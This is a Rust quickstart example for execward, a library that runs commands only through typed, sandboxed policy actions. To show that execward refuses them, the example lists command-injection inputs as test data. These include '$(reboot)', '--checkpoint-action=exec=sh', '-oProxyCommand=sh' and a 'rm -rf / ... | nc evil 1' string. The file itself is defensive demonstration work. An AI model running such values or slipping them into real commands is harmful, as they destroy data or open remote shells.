//! The ten-minute tour: a policy with one action, a request that runs, and
//! the attacks execward refuses.
//!
//! ```text
//! cargo run --example quickstart
//! ```

use execward::Policy;

const POLICY: &str = r#"
# A control panel may print a greeting for a known service, nothing else.
type service = enum nginx postfix dovecot
type note    = string max=200

action greet = /usr/bin/printf "hello, %s\n" {svc:service}
    timeout 5s
    net none

action echo-note = /usr/bin/printf "note: %s\n" {note:note}
"#;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let policy = Policy::parse(POLICY).map_err(|diags| {
        diags
            .iter()
            .map(|d| d.render("quickstart.policy"))
            .collect::<Vec<_>>()
            .join("\n")
    })?;
    let greet = policy.action("greet")?;

    println!("== a valid request runs, sandboxed:");
    let out = greet.bind(&["nginx"])?.command().output()?;
    print!("{}", String::from_utf8_lossy(&out.stdout));
    println!(
        "   exit {} | landlock ABI {:?} | seccomp {:?} | containment {}",
        out.exit_code(),
        out.sandbox.landlock_abi,
        out.sandbox.seccomp,
        out.sandbox.containment
    );

    println!("\n== injection attempts are refused before anything runs:");
    for attack in [
        "nginx; id",
        "$(reboot)",
        "nginx\nid",
        "--checkpoint-action=exec=sh",
        "ｎginx",
    ] {
        match greet.bind(&[attack]) {
            Ok(_) => println!("   UNEXPECTED: {attack:?} was accepted"),
            Err(e) => println!("   execward: {e}"),
        }
    }

    println!("\n== a free-text value is passed as one argv element, never parsed:");
    let note = policy.action("echo-note")?;
    let out = note
        .bind(&["a; rm -rf / `id` $(id) | nc evil 1"])?
        .command()
        .output()?;
    print!("   {}", String::from_utf8_lossy(&out.stdout));
    let e = note.bind(&["-oProxyCommand=sh"]).unwrap_err();
    println!("   execward: {e}");
    Ok(())
}
